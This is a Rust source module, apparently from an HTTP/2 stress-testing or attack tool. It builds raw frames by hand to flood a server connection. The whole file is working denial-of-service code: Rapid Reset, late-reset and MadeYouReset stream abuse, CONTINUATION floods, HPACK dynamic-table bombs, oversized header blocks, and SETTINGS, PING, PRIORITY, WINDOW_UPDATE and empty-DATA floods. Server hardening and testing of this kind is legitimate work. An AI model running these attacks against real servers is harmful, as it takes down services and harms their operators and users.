//! Attacks in HTTP/2: frames by hand, as many as possible in each write.

use std::io;

use super::wire::Wire;
use super::{Attacker, Kind};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// `:method GET`, `:scheme http`, `:path /` of HPACK's static table, and `:authority` as a literal that
/// is not put into the dynamic table.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'e'];
/// The same with POST.
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'e'];

/// A request that keeps the backend busy: `:path` as a literal without indexing.
const SLOW: &[u8] = b"\x82\x86\x04\x0d/delay?ms=500\x01\x01e";

/// Frames, or pairs of them, in one write.
const PIECE: usize = 50;

/// An entry that the dynamic table of 4096 bytes has room for, its overhead of 32 included.
const ENTRY: usize = 4000;

/// So many of them are within the limit of a head, 64 KiB.
const SMALL_BOMB: usize = 15;

/// Attacks on one connection until it or the attack is over.
pub(super) fn flood(kind: Kind, attacker: &mut Attacker<'_>, wire: &mut Wire) -> io::Result<()> {
    let mut flood = Flood { kind, stream: 1, out: Vec::new(), frames: 0 };
    wire.speak_http2();
    flood.begin();
    let mut pings = 0;
    loop {
        wire.send(&flood.out)?;
        wire.frames += std::mem::take(&mut flood.frames);
        flood.out.clear();
        if attacker.is_over() {
            return Ok(());
        }
        flood.piece();
        // The answer to the last PING tells that all before it was read.
        if kind == Kind::LateReset || (attacker.options.in_step && kind != Kind::Continuation) {
            flood.frame(PING, 0, 0, &[0; 8]);
            pings += 1 + if kind == Kind::Ping { PIECE as u64 } else { 0 };
            wire.send(&flood.out)?;
            wire.frames += std::mem::take(&mut flood.frames);
            flood.out.clear();
            wire.wait(|wire| wire.pongs >= pings)?;
        }
        if kind == Kind::LateReset {
            let last = flood.stream;
            for back in 1..=PIECE as u32 {
                flood.frame(RST_STREAM, 0, last - 2 * back, &CANCEL);
            }
        }
    }
}

/// The preface, and a head that begins.
pub(super) fn head_begins() -> Vec<u8> {
    let mut flood = Flood { kind: Kind::SlowHeadersHttp2, stream: 1, out: Vec::new(), frames: 0 };
    flood.begin();
    flood.frame(HEADERS, END_STREAM, 1, GET);
    flood.out
}

struct Flood {
    kind: Kind,
    /// The next stream.
    stream: u32,
    out: Vec<u8>,
    /// How many are in `out`.
    frames: u64,
}

impl Flood {
    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
        self.out.extend([length[1], length[2], length[3], kind, flags]);
        self.out.extend(stream.to_be_bytes());
        self.out.extend_from_slice(payload);
        self.frames += 1;
    }

    /// A request's head on the next stream, whose number is returned.
    fn request(&mut self, block: &[u8], end: u8) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        self.frame(HEADERS, END_HEADERS | end, stream, block);
        stream
    }

    /// The preface, and what has to stand before the first piece.
    fn begin(&mut self) {
        self.out.extend(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        self.frame(SETTINGS, 0, 0, &[]);
        self.frame(SETTINGS, 1, 0, &[]);
        match self.kind {
            Kind::EmptyData => {
                self.request(POST, 0);
            }
            Kind::Continuation => {
                self.frame(HEADERS, END_STREAM, 1, GET);
            }
            Kind::HpackBomb | Kind::SmallHpackBomb => {
                // Literal with incremental indexing (RFC 7541, section 6.2.1); the length with 7 bits first.
                let mut block = GET.to_vec();
                block.extend([0x40, 1, b'x', 0x7f]);
                let rest = ENTRY - 127;
                block.extend([(rest % 128) as u8 | 128, (rest / 128) as u8]);
                block.extend([b'y'; ENTRY]);
                self.request(&block, END_STREAM);
            }
            _ => {}
        }
    }

    fn piece(&mut self) {
        match self.kind {
            Kind::SmallHpackBomb => {
                let block = [GET, &[0xbe; SMALL_BOMB]].concat();
                for _ in 0..PIECE {
                    self.request(&block, END_STREAM);
                }
            }
            Kind::HpackBomb => {
                // Each byte is the whole entry.
                let block = [GET, &[0xbe; 4000]].concat();
                for _ in 0..4 {
                    self.request(&block, END_STREAM);
                }
            }
            Kind::HugeHeadersHttp2 => {
                let stream = self.stream;
                self.stream += 2;
                self.frame(HEADERS, END_STREAM, stream, GET);
                // Literals without indexing: a name of one byte, a value of 16,000.
                let mut block = vec![0, 1, b'x', 0x7f];
                let rest = 16_000 - 127;
                block.extend([(rest % 128) as u8 | 128, (rest / 128) as u8]);
                block.extend([b'y'; 16_000]);
                for _ in 0..63 {
                    self.frame(CONTINUATION, 0, stream, &block);
                }
                self.frame(CONTINUATION, END_HEADERS, stream, &block);
            }
            _ => (0..PIECE).for_each(|_| self.unit()),
        }
    }

    fn unit(&mut self) {
        match self.kind {
            Kind::RapidReset => {
                let stream = self.request(GET, END_STREAM);
                self.frame(RST_STREAM, 0, stream, &CANCEL);
            }
            Kind::LateReset => {
                self.request(SLOW, END_STREAM);
            }
            Kind::MadeYouReset => {
                let stream = self.request(SLOW, END_STREAM);
                // RFC 9113, section 6.9.1: a window beyond 2^31-1 is an error of the stream.
                self.frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
            }
            // A literal of two bytes.
            Kind::Continuation => self.frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
            Kind::EmptyData => self.frame(DATA, 0, 1, &[]),
            // SETTINGS_INITIAL_WINDOW_SIZE: each value is one for all streams.
            Kind::Settings => self.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Kind::Ping => self.frame(PING, 0, 0, &[1; 8]),
            Kind::Priority => self.frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            _ => self.frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        }
    }
}
